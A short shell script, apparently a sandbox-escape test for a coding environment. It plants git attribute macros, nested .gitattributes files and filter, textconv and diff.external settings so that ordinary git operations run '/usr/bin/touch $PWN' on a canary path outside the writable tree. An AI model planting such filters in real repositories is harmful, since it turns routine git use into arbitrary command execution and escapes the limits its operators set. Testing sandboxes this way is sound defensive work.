#!/bin/sh
# env: PWN = canary path outside; HOME = a folder outside that must stay as it is; cwd = the tree the coder may write.
# TRY: attribute macros, nested attribute files and a filter in every config within reach
printf '[attr]text filter=x\n[attr]binary filter=x\n* filter=x text=auto eol=crlf ident working-tree-encoding=UTF-16 diff=x merge=x\n' > .gitattributes
mkdir -p n; cp .gitattributes n/; printf 'one\ntwo\n' > n/t.txt
for k in clean smudge process; do git config filter.x.$k "/usr/bin/touch $PWN; cat"; done
git config diff.x.textconv "/usr/bin/touch $PWN; cat"; git config diff.external "/usr/bin/touch $PWN"
mkdir -p .git/info; printf '* filter=x\n' > .git/info/attributes
